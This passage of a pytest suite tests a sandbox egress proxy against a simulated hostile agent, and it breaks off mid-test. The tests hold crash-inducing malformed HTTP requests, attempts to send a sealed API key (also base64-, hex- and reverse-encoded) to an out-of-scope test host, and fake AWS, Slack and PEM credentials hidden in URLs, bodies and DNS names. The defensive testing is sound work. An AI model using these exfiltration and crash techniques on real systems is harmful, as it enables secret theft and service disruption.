# SPDX-License-Identifier: Apache-2.0
"""A hostile agent attacks the host half of the egress boundary from inside
its sandbox: the engine that serves it must survive every connection
lifecycle, run confined, never hold more than it needs, and let no secret
out in any encoding.

Each test drives the real `cordon exec --net proxy` or `cordon run`; the
sanitizer pass of `make test` runs them against the ASan build, where a
use-after-free in the engine aborts the network part."""
import base64
import json
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest

from test_egress import tls_upstream  # noqa: F401 (fixture)
from conftest import CORDON, run, wait_until
from test_egress import Egress, eg, hosts, upstream  # noqa: F401 (fixtures)

# A program the sandbox runs: it attacks the proxy with `attack`, then
# checks the engine still answers a plain request on a new connection.
LIFECYCLE = r"""
import socket, sys, time
PROXY = ("127.0.0.1", 3128)
host = sys.argv[1]

def attack(data, pause=0.15, chunk=None, shut=False):
    s = socket.create_connection(PROXY, timeout=10)
    if chunk:
        # small writes through the head and the first inspection window,
        # then the rest at once
        cut = min(len(data), 1400)
        for i in range(0, cut, chunk):
            s.sendall(data[i:min(i + chunk, cut)])
            time.sleep(0.001)
        s.sendall(data[cut:])
    else:
        s.sendall(data)
    time.sleep(pause)
    if shut:
        s.shutdown(socket.SHUT_WR)
        time.sleep(pause)
    s.close()

def alive():
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(b"GET http://%s/alive HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
              % (host.encode(), host.encode()))
    data = b""
    while True:
        c = s.recv(65536)
        if not c:
            break
        data += c
    return data.split(b"\r\n")[0].decode()

post = b"POST http://%s/p HTTP/1.1\r\nHost: %s\r\n" % (host.encode(), host.encode())
CASES = {
    # the reported crash: a Content-Length body cut short, then closed
    "short_body": post + b"Content-Length: 10000\r\n\r\n" + b"x" * 100,
    # a credential split over small writes, in a body that is still coming
    "split_credential": post + b"Content-Length: 10000\r\n\r\n" + b"a" * 600
        + b"key=AKIAQWERTYUIOPASDFGH&more",
    # a credential that arrives in a later write of the body
    "late_credential": post + b"Content-Length: 100000\r\n\r\n" + b"b" * 70000
        + b" ghp_" + b"A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8" + b"c" * 10,
    # a malformed chunk size after good chunks
    "bad_chunk": post + b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\nzz\r\n",
    "chunk_then_close": post + b"Transfer-Encoding: chunked\r\n\r\n400\r\n" + b"y" * 700,
    "head_only": b"GET http://%s/x HTTP/1.1\r\nHost: " % host.encode(),
    "body_half_close": post + b"Content-Length: 50\r\n\r\n" + b"z" * 10,
    "pipelined": (b"GET http://%s/a HTTP/1.1\r\nHost: %s\r\n\r\n" % (host.encode(), host.encode()))
        * 3 + post + b"Content-Length: 900\r\n\r\n" + b"w" * 520,
}
for name in sys.argv[2:]:
    for chunk in (None, 7):
        attack(CASES[name], chunk=chunk, shut=name.endswith("close"))
    print(name, alive())
"""

CASES = ["short_body", "split_credential", "late_credential", "bad_chunk", "chunk_then_close",
         "head_only", "body_half_close", "pipelined"]


def test_reported_crash_exits_with_the_commands_status(eg, upstream):
    """The reproduction from the review: before the fix the supervisor died
    (exit 139) when a connection went away with inspected body bytes held."""
    host = f"upstream.test:{upstream.port}"
    code = ("import socket,time;s=socket.create_connection(('127.0.0.1',3128));"
            f"s.sendall(b'POST http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n"
            "Content-Length: 10000\\r\\n\\r\\n'+b'x'*100);time.sleep(0.5);s.close()")
    r = eg.run("python3", "-c", code, opts=eg.opts("--allow", host))
    assert r.returncode == 0, (r.returncode, r.stderr)


def test_engine_survives_every_connection_lifecycle(eg, upstream, tmp_path):
    """Open, partial head or body, credentials held back, malformed chunks,
    half-close, pipelining: after each, the engine still serves."""
    host = f"upstream.test:{upstream.port}"
    prog = tmp_path / "lifecycle.py"
    prog.write_text(LIFECYCLE)
    r = eg.run("python3", "/t/lifecycle.py", host, *CASES,
               opts=eg.opts("--allow", host, "--ro", f"{prog}:/t/lifecycle.py"), timeout=120)
    assert r.returncode == 0, (r.returncode, r.stdout, r.stderr)
    lines = r.stdout.split("\n")
    for name in CASES:
        assert f"{name} HTTP/1.1 200 OK" in lines, (name, r.stdout, r.stderr)


# ------------------------------------------------- privilege separation

HELPER_SPAN = 1 << 22


def net_parts(parent=None):
    """cordon-net processes (of one supervisor pid, or all): pid -> status."""
    found = {}
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            st = open(f"/proc/{d}/status").read()
        except OSError:
            continue
        fields = dict(l.split(":\t", 1) for l in st.splitlines() if ":\t" in l)
        if fields.get("Name") != "cordon-net":
            continue
        if parent is not None and int(fields["PPid"]) != parent:
            continue
        found[int(d)] = fields
    return found


def assert_confined(pid, fields, supervisor):
    """What the network part of a run must look like from outside."""
    for cap in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert fields[cap].strip() == "0000000000000000", (cap, fields[cap])
    assert fields["Seccomp"].strip() == "2"
    assert fields["NoNewPrivs"].strip() == "1"
    uid = int(fields["Uid"].split()[0])
    if os.geteuid() == 0:
        from conftest import HOSTID_BASE
        assert uid == HOSTID_BASE - 1 - supervisor % HELPER_SPAN, uid
        assert set(fields["Uid"].split()) == {str(uid)}
        assert set(fields["Gid"].split()) == {str(uid)}
        assert fields["Groups"].strip() == ""
    # It holds sockets, pipes, its event loop, and stdio; never a file of
    # the host (the state directory, a database, a key).
    for fd in os.listdir(f"/proc/{pid}/fd"):
        target = os.readlink(f"/proc/{pid}/fd/{fd}")
        if int(fd) <= 2:
            continue
        assert target.startswith(("socket:", "pipe:", "anon_inode:")), (fd, target)


def test_network_part_of_exec_runs_unprivileged_and_confined(eg, upstream):
    p = subprocess.Popen([CORDON, "exec", *eg.opts("--allow", f"upstream.test:{upstream.port}"),
                          "--", "sleep", "5"], env=dict(os.environ, CORDON_HOSTS_FILE=str(eg.hosts)),
                         stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        assert wait_until(lambda: net_parts(p.pid), timeout=10), "no network part"
        (pid, fields), = net_parts(p.pid).items()
        assert wait_until(lambda: open(f"/proc/{pid}/status").read().find("Seccomp:\t2") >= 0)
        assert_confined(pid, dict(l.split(":\t", 1) for l in open(f"/proc/{pid}/status").read()
                                  .splitlines() if ":\t" in l), p.pid)
    finally:
        p.kill()
        p.wait()
    # The supervisor died: its network part goes with it.
    assert wait_until(lambda: not net_parts(p.pid), timeout=5)



from test_run_egress import Env  # noqa: E402


@pytest.fixture
def renv(tmp_path, upstream):
    return Env(tmp_path, upstream)


def has_test_faults():
    """The binaries under test were built with -Dtest_faults (the sanitizer
    build of `make test`): the network part can be made to crash on purpose."""
    net = Path(CORDON).parent / "cordon-net"
    r = run([net, "--version"])
    return "(test faults)" in r.stdout


CRASHER = r'''
import socket, time, urllib.request
up = open("/agent/port").read().strip()
print(urllib.request.urlopen("http://llm.test:%s/first" % up, timeout=10).status, flush=True)
# A name that is not allowed: blocked, and in a build with the test fault
# switch, the network part crashes handling it.
try:
    urllib.request.urlopen("http://crash.netpart.test/", timeout=10)
except Exception as e:
    print("crash request:", type(e).__name__, flush=True)
time.sleep(20)
print("still running", flush=True)
'''


def test_network_part_crash_fails_closed(renv, upstream):
    """The network part dies mid-run (in test builds through a fault switch
    the agent trips; otherwise killed with SIGSEGV from outside): the
    sandbox loses its network at once, the run ends as an error that says
    why, and the audit log written so far is complete and verifies."""
    d = renv.agent("crasher", {"name": "crasher", "version": "1", "profile": "deployment",
                               "entrypoint": ["python3", "/agent/main.py"],
                               "egress": {"domains": ["llm.test"]}}, CRASHER)
    (d / "port").write_text(str(upstream.port))
    faults = has_test_faults()
    inp = renv.tmp / "input.json"
    inp.write_text("{}")
    env = dict(os.environ, CORDON_STATE=str(renv.state))
    if faults:
        env["CORDON_TEST_NETPART_FAULT"] = "crash"
    p = subprocess.Popen([CORDON, "run", "--json", "--policy", renv.policy, "--hosts", renv.hosts,
                          "--allow-private", f"127.0.0.1:{upstream.port}", "-i", inp, d],
                         env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        if not faults:
            # Wait for the blocked request, then crash the part from outside.
            assert wait_until(lambda: any(
                "crash.netpart.test" in f.read_text()
                for f in renv.state.glob("runs/*/audit.jsonl")), timeout=20)
            (pid, _), = net_parts(p.pid).items()
            os.kill(pid, signal.SIGSEGV)
        out, err = p.communicate(timeout=15)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    events = [json.loads(l) for l in out.splitlines() if l.startswith("{")]
    fin = [e for e in events if e["type"] == "run.finished"][-1]
    assert fin["status"] == "error", fin
    # SIGSEGV, or under the sanitizers their report and exit status
    assert "network part" in fin["error"], fin["error"]
    assert "signal 11" in fin["error"] or (faults and "exited with status" in fin["error"]), \
        fin["error"]
    assert p.returncode == 125
    assert any(e["type"] == "network.failed" for e in events)
    # It ended at the crash, not after the agent's sleep.
    assert "still running" not in (Path(fin["run_dir"]) / "stdout").read_text()
    audit = Path(fin["run_dir"]) / "audit.jsonl"
    lines = [json.loads(l) for l in audit.read_text().splitlines()]
    assert any(l.get("hostname") == "llm.test" and l.get("status_code") == 200 for l in lines)
    v = run([CORDON, "audit", "verify", audit])
    assert v.returncode == 0, v.stdout + v.stderr
    assert not net_parts(p.pid)


SLEEPER = "import time; time.sleep(6)\n"


def test_network_part_of_a_run_is_confined(renv, upstream):
    d = renv.agent("sleeper", {"name": "sleeper", "version": "1", "profile": "deployment",
                               "entrypoint": ["python3", "/agent/main.py"],
                               "egress": {"domains": ["llm.test"]}}, SLEEPER)
    inp = renv.tmp / "input.json"
    inp.write_text("{}")
    p = subprocess.Popen([CORDON, "run", "--json", "--policy", renv.policy, "--hosts", renv.hosts,
                          "-i", inp, d], env=dict(os.environ, CORDON_STATE=str(renv.state)),
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert wait_until(lambda: net_parts(p.pid), timeout=10), "no network part"
        (pid, _), = net_parts(p.pid).items()
        assert wait_until(lambda: "Seccomp:\t2" in open(f"/proc/{pid}/status").read())
        fields = dict(l.split(":\t", 1) for l in open(f"/proc/{pid}/status").read().splitlines()
                      if ":\t" in l)
        assert_confined(pid, fields, p.pid)
        out, _ = p.communicate(timeout=30)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    events = [json.loads(l) for l in out.splitlines() if l.startswith("{")]
    ready = [e for e in events if e["type"] == "sandbox.ready"][-1]
    part = ready["protections"]["network_part"]
    assert part["seccomp"] is True and part["no_new_privs"] is True
    assert part["capabilities"] == "0000000000000000" and part["landlock_abi"] >= 1
    fin = [e for e in events if e["type"] == "run.finished"][-1]
    res = json.loads((Path(fin["run_dir"]) / "result.json").read_text())
    assert res["protections"]["network_part"] == part


# ------------------------------------------------------------ sealed secrets

SEALED = "sk-proj-Q7vX2mR9tL4wK8nB3cF6hJ1pZ5yD0sG2aE9uT4oW"  # the real value

SEALED_AGENT = r'''
import base64, json, os, time, urllib.request, urllib.error
port = open("/agent/port").read().strip()
key = os.environ["API_KEY"]
out = {"len": len(key), "rev": key[::-1],
       "environ_rev": open("/proc/self/environ", "rb").read()[::-1].hex()}
open("/workspace/keep.txt", "w").write(key)
def call(name, url, body=None, headers=None):
    req = urllib.request.Request(url, data=body, headers=headers or {}, method="POST" if body else "GET")
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            out[name] = [r.status, r.read().decode("latin-1")[::-1]]
    except urllib.error.HTTPError as e:
        out[name] = [e.code, ""]
    except Exception as e:  # a response cut because it held the value encoded
        out[name] = [type(e).__name__, ""]
basic = base64.b64encode(("user:" + key).encode()).decode()
call("scoped", "http://llm.test:%s/v1?key=%s" % (port, key), json.dumps({"api_key": key}).encode(),
     {"Authorization": "Bearer " + key, "X-Api-Key": key, "Content-Type": "application/json"})
call("basic", "http://llm.test:%s/basic" % port, headers={"Authorization": "Basic " + basic})
# Out of scope: the placeholder, and transforms of it.
call("elsewhere", "http://other.test:%s/x" % port, headers={"X-Key": key})
call("elsewhere_b64", "http://other.test:%s/x" % port,
     headers={"X-Key": base64.b64encode(key.encode()).decode()})
call("elsewhere_rev", "http://other.test:%s/x" % port, headers={"X-Key": key[::-1]})
json.dump(out, open("/workspace/output.json", "w"))
open("/workspace/done", "w").write("1")
time.sleep(float(json.load(open("/workspace/input.json")).get("linger", 0)))
'''


def memory_has(pids, needle):
    """Whether any readable mapping of these processes holds needle. Mappings
    over 1 GiB are skipped: the sanitizers reserve terabytes of shadow and
    allocator space, mostly never touched (the normal build has none)."""
    chunk = 1 << 20
    for pid in pids:
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb", 0)
        except OSError:
            continue
        with mem:
            for line in maps:
                addr, perms = line.split()[:2]
                if not perms.startswith("r") or "[vvar]" in line or "[vsyscall]" in line:
                    continue
                lo, hi = (int(x, 16) for x in addr.split("-"))
                if hi - lo > 1 << 30:
                    continue
                tail = b""
                for off in range(lo, hi, chunk):
                    try:
                        mem.seek(off)
                        data = tail + mem.read(min(chunk, hi - off))
                    except (OSError, OverflowError, ValueError):
                        break
                    if needle in data:
                        return True
                    tail = data[-len(needle):]
    return False


def sealed_env(renv):
    r = renv.cordon("secret", "set", "API_KEY", input=SEALED)
    assert r.returncode == 0, r.stderr


def sealed_manifest(**egress):
    m = {"name": "sealed", "version": "1", "profile": "deployment",
         "entrypoint": ["python3", "/agent/main.py"], "required_secrets": ["API_KEY"],
         "egress": {"domains": ["llm.test", "other.test"], "secrets": {"API_KEY": ["llm.test"]}}}
    m["egress"].update(egress)
    return m


def test_sealed_secret_never_enters_the_sandbox(renv, upstream):
    """The agent holds a placeholder of the same shape; the scoped upstream
    gets the real value in the query, the headers (Basic included) and the
    body; its echo comes back as the placeholder; elsewhere the placeholder
    is blocked like the secret; the value is nowhere in the sandbox: not in
    its environment, files or the memory of its processes."""
    from conftest import sandbox_processes
    sealed_env(renv)
    d = renv.agent("sealed", sealed_manifest(), SEALED_AGENT)
    (d / "port").write_text(str(upstream.port))
    inp = renv.tmp / "input.json"
    inp.write_text('{"linger": 4}')
    p = subprocess.Popen([CORDON, "run", "--json", "--policy", renv.policy, "--hosts", renv.hosts,
                          "--allow-private", f"127.0.0.1:{upstream.port}", "-i", inp, d],
                         env=dict(os.environ, CORDON_STATE=str(renv.state)),
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        # While the agent lingers (after its requests): its processes' memory.
        assert wait_until(lambda: any("egress.blocked" in f.read_text() and
                                      f.read_text().count("egress.") >= 5
                                      for f in renv.state.glob("runs/*/events.ndjson")), timeout=30)
        pids = sandbox_processes()
        assert pids
        assert not memory_has(pids, SEALED.encode()), "the sealed value is in a sandbox process"
        out, err = p.communicate(timeout=60)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    assert p.returncode == 0, err
    events = [json.loads(l) for l in out.splitlines() if l.startswith("{")]
    fin = [e for e in events if e["type"] == "run.finished"][-1]
    res = json.loads((Path(fin["run_dir"]) / "result.json").read_text())
    o = res["output"]
    held = o["rev"][::-1]
    assert held != SEALED and len(held) == len(SEALED) and held.startswith("sk-proj-")
    assert SEALED[::-1].encode().hex() not in o["environ_rev"]
    # The scoped upstream saw the value in the credential headers (Basic
    # included), and nowhere else: the query and the body keep the
    # placeholder, since a value put there could be kept by the scope and
    # read back (the manifest's "in" opts them in, below).
    seen = {path.split("?")[0]: (path, headers, body) for (_, path, headers, body) in upstream.log}
    path, headers, body = seen["/v1"]
    assert headers["Authorization"] == "Bearer " + SEALED and headers["X-Api-Key"] == SEALED
    assert path == f"/v1?key={held}"
    assert json.loads(body) == {"api_key": held}
    import base64
    assert seen["/basic"][1]["Authorization"] == "Basic " + base64.b64encode(
        ("user:" + SEALED).encode()).decode()
    # The echo came back with the placeholder, not the value; the echo of the
    # Basic credentials (base64 of the value, which cannot be swapped back in
    # place) was cut.
    assert o["basic"][0] == "IncompleteRead", o["basic"]
    assert o["scoped"][0] == 200
    echo = o["scoped"][1][::-1]
    assert SEALED not in echo and held in echo
    # Elsewhere: the placeholder and its base64 are blocked like a leak; the
    # reversed placeholder passes, and is not the secret.
    assert o["elsewhere"][0] == 403 and o["elsewhere_b64"][0] == 403
    assert o["elsewhere_rev"][0] == 200
    leaks = [e for e in events if e["type"] == "egress.blocked" and "credential" in json.dumps(e)]
    assert len(leaks) == 2
    for (_, _, headers, body) in upstream.log:
        text = json.dumps(headers) + body.decode("latin-1")
        if "other" in headers.get("Host", ""):
            assert SEALED not in text and SEALED[::-1] not in text
    # Delivery is on the record.
    assert res["protections"]["secrets"]["API_KEY"]["delivery"] == "sealed"


def test_sealed_secret_goes_in_the_query_and_body_only_when_the_manifest_says_so(renv, upstream):
    """"in": ["query", "body"] swaps the value there too; "headers" every
    header; without them, only the credential headers get it."""
    sealed_env(renv)
    m = sealed_manifest(secrets={"API_KEY": {"domains": ["llm.test"], "in": ["query", "body"]}})
    d = renv.agent("sealed_in", m, SEALED_AGENT)
    (d / "port").write_text(str(upstream.port))
    r, events = renv.run(d)
    assert r.returncode == 0, r.stderr
    seen = {path.split("?")[0]: (path, headers, body) for (_, path, headers, body) in upstream.log}
    path, headers, body = seen["/v1"]
    assert path == f"/v1?key={SEALED}" and json.loads(body) == {"api_key": SEALED}
    res, _ = renv.result(events)
    assert res["protections"]["secrets"]["API_KEY"]["in"] == ["credential headers", "query", "body"]
    # A header not named for a credential gets the value only with "headers".
    upstream.log.clear()
    code = ("import os, urllib.request\n"
            "port = open('/agent/port').read().strip()\n"
            "urllib.request.urlopen(urllib.request.Request('http://llm.test:%s/h' % port, "
            "headers={'X-Note': os.environ['API_KEY'], 'X-Goog-Api-Key': os.environ['API_KEY']}), timeout=10).read()\n")
    for in_, note in (([], False), (["headers"], True)):
        upstream.log.clear()
        m = sealed_manifest(secrets={"API_KEY": {"domains": ["llm.test"], "in": in_}})
        d = renv.agent("sealed_h%d" % len(in_), m, code)
        (d / "port").write_text(str(upstream.port))
        r, _ = renv.run(d)
        assert r.returncode == 0, r.stderr
        h = [hd for (_, p, hd, _) in upstream.log if p == "/h"][0]
        assert h["X-Goog-Api-Key"] == SEALED
        assert (h["X-Note"] == SEALED) == note, (in_, h["X-Note"])
    # An unknown place is refused by name.
    m = sealed_manifest(secrets={"API_KEY": {"domains": ["llm.test"], "in": ["cookie"]}})
    d = renv.agent("sealed_bad", m, "print(1)\n")
    r, _ = renv.run(d)
    assert r.returncode == 125 and '"cookie" is not where a secret goes' in r.stderr, r.stderr


def test_raw_secret_is_the_value_and_still_scoped(renv, upstream):
    sealed_env(renv)
    m = sealed_manifest(secrets={"API_KEY": {"domains": ["llm.test"], "raw": True}})
    d = renv.agent("raw", m, SEALED_AGENT)
    (d / "port").write_text(str(upstream.port))
    r, events = renv.run(d)
    assert r.returncode == 0, r.stderr
    res, _ = renv.result(events)
    assert res["output"]["rev"][::-1] == SEALED
    assert res["protections"]["secrets"]["API_KEY"]["delivery"] == "raw"
    assert res["output"]["elsewhere"][0] == 403


class EchoHandler:
    """An in-scope API that reflects what it was sent (httpbin-style
    /headers): as sent (Basic credentials stay base64), gzip-compressed when
    asked (/gz) or always (/forcegz), in 7-byte chunks (/chunked), or the
    value's hex (/hex)."""
    log = []


def _echo_server():
    import gzip
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    class H(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *a):
            pass

        def do_GET(self):
            EchoHandler.log.append((self.path, dict(self.headers)))
            hdrs = dict(self.headers)
            if self.path.startswith("/hex"):
                hdrs = {"X-Api-Key": hdrs.get("X-Api-Key", "").encode().hex()}
            body = json.dumps({"headers": hdrs}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            if self.path.startswith("/forcegz") or (
                    self.path.startswith("/gz") and "gzip" in self.headers.get("Accept-Encoding", "")):
                body = gzip.compress(body)
                self.send_header("Content-Encoding", "gzip")
            if self.path.startswith("/chunked"):
                self.send_header("Transfer-Encoding", "chunked")
                self.end_headers()
                for i in range(0, len(body), 7):
                    part = body[i:i + 7]
                    self.wfile.write(b"%x\r\n%s\r\n" % (len(part), part))
                self.wfile.write(b"0\r\n\r\n")
                return
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    srv = ThreadingHTTPServer(("127.0.0.1", 0), H)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


UNSEAL_AGENT = r'''
import base64, gzip, json, os, urllib.request
port = open("/agent/port").read().strip()
key = os.environ["API_KEY"]                       # the placeholder
def get(path, headers):
    req = urllib.request.Request("http://llm.test:%s/%s" % (port, path), headers=headers)
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            data = r.read()
            if r.headers.get("Content-Encoding") == "gzip":
                data = gzip.decompress(data)
            return json.loads(data)["headers"]
    except Exception as e:
        return {"error": type(e).__name__ + ": " + str(e)[:200]}
out = {}
h = get("basic", {"Authorization": "Basic " + base64.b64encode(("u:" + key).encode()).decode()})
out["basic"] = h
h = get("gz", {"X-Api-Key": key, "Accept-Encoding": "gzip"})
out["gzip"] = h.get("X-Api-Key", h.get("error"))
h = get("forcegz", {"X-Api-Key": key})
out["forcegz"] = h.get("X-Api-Key", h.get("error"))
h = get("chunked", {"X-Api-Key": key})
out["chunked"] = h.get("X-Api-Key", h.get("error"))
h = get("hex", {"X-Api-Key": key})
out["hex"] = h.get("X-Api-Key", h.get("error"))
out["key"] = key
# whatever the agent now holds, reversed, so that no literal copy is in the file
json.dump({k: (v[::-1] if isinstance(v, str) else json.dumps(v)[::-1]) for k, v in out.items()},
          open("/workspace/output.json", "w"))
'''


def test_a_sealed_value_echoed_in_another_encoding_never_reaches_the_agent(tmp_path):
    """An in-scope upstream that echoes the request hands back the value the
    engine swapped in. Raw, percent-encoded and JSON-escaped echoes are
    swapped back; the others must not get through either: the request asks
    for identity (no gzip the agent could pick), a response encoded anyway
    is refused, a chunked body is swapped de-chunked (the framing no longer
    splits the value), and what cannot be swapped (base64 of the Basic
    credentials the engine wrote, hex) cuts the response."""
    srv = _echo_server()
    EchoHandler.log.clear()
    try:
        class Up:
            port = srv.server_address[1]
        renv = Env(tmp_path, Up)
        sealed_env(renv)
        d = renv.agent("unseal", sealed_manifest(), UNSEAL_AGENT)
        (d / "port").write_text(str(Up.port))
        r, events = renv.run(d)
        assert r.returncode == 0, r.stderr
        res, _ = renv.result(events)
    finally:
        srv.shutdown()
    out = {k: v[::-1] for k, v in res["output"].items()}
    key = out["key"]
    flat = json.dumps(res) + json.dumps(events) + r.stdout + r.stderr
    assert SEALED not in flat and SEALED.encode().hex() not in flat
    assert base64.b64encode(b"u:" + SEALED.encode()).decode() not in flat
    # The upstream got the value, asked for identity every time.
    assert all(h.get("Accept-Encoding") == "identity" for _, h in EchoHandler.log), EchoHandler.log
    assert any(h.get("X-Api-Key") == SEALED for _, h in EchoHandler.log)
    # Swapped back: gzip was never used, the chunked body was de-chunked.
    assert out["gzip"] == key and out["chunked"] == key, out
    # Refused or cut: the agent holds an error, never the value.
    for how in ("forcegz", "hex", "basic"):
        assert "rror" in out[how] or "Incomplete" in out[how], (how, out[how])
    blocked = [e for e in events if e["type"] == "egress.blocked"]
    reasons = " ".join(e.get("blocked_reason", "") for e in blocked)
    assert "Content-Encoding: gzip" in reasons
    assert "cannot be swapped back" in reasons and "API_KEY" in reasons


def test_sealed_secret_over_https_is_swapped_by_automatic_inspection(renv, tls_upstream):
    """The policy does not inspect secure.test; the sealed secret's scope
    makes it inspected, so the swap happens inside TLS too."""
    from upstream import Handler
    port, ca = tls_upstream
    sealed_env(renv)
    renv.hosts.write_text(renv.hosts.read_text() + "127.0.0.1 secure.test\n")
    renv.policy.write_text(f"version: 1\ndomains:\n  - name: secure.test\n    ports: [{port}]\n")
    code = ("import os, urllib.request\n"
            f"req = urllib.request.Request('https://secure.test:{port}/tls', "
            "headers={'Authorization': 'Bearer ' + os.environ['API_KEY']})\n"
            "print(urllib.request.urlopen(req, timeout=10).status)\n")
    m = {"name": "tls", "version": "1", "profile": "deployment",
         "entrypoint": ["python3", "/agent/main.py"], "required_secrets": ["API_KEY"],
         "egress": {"domains": ["secure.test"], "secrets": {"API_KEY": ["secure.test"]}}}
    a = renv.agent("tls", m, code)
    r = renv.cordon("run", "--json", "--policy", renv.policy, "--hosts", renv.hosts,
                    "--allow-private", f"127.0.0.1:{port}", "--upstream-ca", ca, a)
    assert r.returncode == 0, r.stdout + r.stderr
    auth = [h.get("Authorization") for (_, p, h, _) in Handler.log if p == "/tls"]
    assert auth == ["Bearer " + SEALED]


def test_raw_secret_too_short_to_inspect_is_refused(renv, upstream):
    r = renv.cordon("secret", "set", "API_KEY", input="short1")
    assert r.returncode == 0
    m = sealed_manifest(secrets={"API_KEY": {"domains": ["llm.test"], "raw": True}})
    d = renv.agent("short", m, "print('hi')\n")
    r, events = renv.run(d)
    assert r.returncode == 125
    assert "secret API_KEY is raw" in r.stderr and "at least 8" in r.stderr, r.stderr
    # Sealed, the same short value is fine: it never enters the sandbox.
    d2 = renv.agent("short2", sealed_manifest(), "print('hi')\n")
    r2, _ = renv.run(d2)
    assert r2.returncode == 0, r2.stderr


# ------------------------------------------------------- the leak paths (§4)

WILD = "version: 1\ndomains:\n  - name: '*.up.test'\n    ports: [{port}]\n{extra}"


def wild_opts(eg, upstream, extra=""):
    p = eg.tmp / "wild.yaml"
    p.write_text(WILD.format(port=upstream.port, extra=extra))
    return ["--net", "proxy", "--audit-log", eg.audit, "--policy", p,
            "--ro", f"{Path(__file__).resolve().parent / 'sandbox_client.py'}:/t/client.py",
            "--allow-private", f"127.0.0.1:{upstream.port}"]


def test_host_names_are_inspected_and_bounded_under_wildcards(eg, upstream):
    """A credential in a subdomain, a label too long or too random under a
    wildcard: refused in the request and in the DNS filter, before any
    lookup leaves (the label would reach the zone's name servers)."""
    names = ["ok.up.test", "akiaqwertyuiopasdfgh.up.test",
             "x" * 41 + ".up.test", "q7vx2mr9tl4wk8nb3cf6hj1p.up.test"]
    eg.hosts.write_text(eg.hosts.read_text() + "".join(f"127.0.0.1 {n}\n" for n in names))
    o = wild_opts(eg, upstream)
    url = lambda host: f"http://{host}:{upstream.port}/x"
    assert eg.client("get", url(names[0]), opts=o).stdout.startswith("200")
    assert eg.client("get", url(names[1].upper()), opts=o).stdout.split("\n")[:2] == ["403", "credential"]
    assert eg.client("get", url(names[2]), opts=o).stdout.split("\n")[:2] == ["403", "host"]
    assert eg.client("get", url(names[3]), opts=o).stdout.split("\n")[:2] == ["403", "host"]
    for n in [names[1].upper()] + names[2:]:
        r = eg.client("dns", n, opts=o)
        assert "rcode 3" in r.stdout, (n, r.stdout)
    leaks = [x for x in eg.entries() if x.get("event_type") == "credential_leak"]
    assert {x["method"] for x in leaks} >= {"GET", "DNS-A"}
    assert all("aws_access_key_id" in x["credential_patterns"] for x in leaks)
    # The operator can allow random labels under a rule (a CDN's hashed names).
    o = wild_opts(eg, upstream, "    random_labels: true\n")
    assert eg.client("get", url(names[3]), opts=o).stdout.startswith("200")
    o = wild_opts(eg, upstream, "    max_label_length: 63\n")
    assert eg.client("get", url(names[2]), opts=o).stdout.startswith("200")


def test_dns_lookups_count_in_the_rule_rate_window(eg, upstream):
    o = wild_opts(eg, upstream, "    requests_per_minute: 2\n")
    r = eg.run("sh", "-c", "for n in a b c; do python3 /t/client.py dns $n.up.test; done", opts=o)
    rcodes = [l.split()[1] for l in r.stdout.splitlines() if l.startswith("rcode")]
    assert rcodes[:2] != ["5", "5"] and rcodes[2] == "5", r.stdout
    assert any(x.get("event_type") == "rate_limited" and x["method"] == "DNS-A"
               for x in eg.entries())


@pytest.mark.parametrize("where,make", [
    ("query", lambda k: ("GET", "/q?aws_secret_access_key=" + k.replace("/", "%2F").replace("+", "%2B"), None, {})),
    ("form", lambda k: ("POST", "/f", ("aws_secret_access_key=" + k.replace("/", "%2F").replace("+", "%2B")).encode(),
                        {"Content-Type": "application/x-www-form-urlencoded"})),
    ("pem", lambda k: ("POST", "/f", b"key=-----BEGIN%20RSA%20PRIVATE%20KEY-----%0AMIIEpAIBAAKCAQEA"
                       b"0Zp3qPnXkJk8vL2mQ7rT9sW4yU6iO1pA3sD5fG7hJ9kL", {})),
    ("slack", lambda k: ("GET", "/s?u=https%3A%2F%2Fhooks.slack.com%2Fservices%2FT0A1B2C3D%2FB0A1B2C3D%2F"
                         "Xq7Vz2Mr9Tl4Wk8Nb3Cf6Hj1", None, {})),
])
def test_percent_encoded_credentials_are_found(eg, upstream, where, make):
    key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ9a8/+Ab1C2D"[:40]
    method, path, body, headers = make(key)
    code = ("import sys, urllib.request, urllib.error\n"
            f"req = urllib.request.Request('http://upstream.test:{upstream.port}{path}', "
            f"data={body!r}, headers={headers!r}, method={method!r})\n"
            "try:\n    print(urllib.request.urlopen(req, timeout=10).status)\n"
            "except urllib.error.HTTPError as e:\n    print(e.code, e.headers.get('X-Cordon-Block'))\n")
    r = eg.run("python3", "-c", code, opts=eg.opts("--allow", f"upstream.test:{upstream.port}"))
    assert r.stdout.strip() == "403 credential", (where, r.stdout, r.stderr)
    # A body is inspected as it streams: its head may have left, never the
    # credential.
    for (_, p, _, b) in upstream.log:
        assert "aws_secret" not in p and "hooks.slack" not in p and b"BEGIN" not in b
        assert b"aws_secret" not in b


def test_raw_secret_closes_uninspected_tunnels_outside_its_scope(renv, upstream):
    r = renv.cordon("secret", "set", "API_KEY", input=SEALED)
    assert r.returncode == 0
    code = ("import socket, sys\n"
            "for host in sys.argv[1:]:\n"
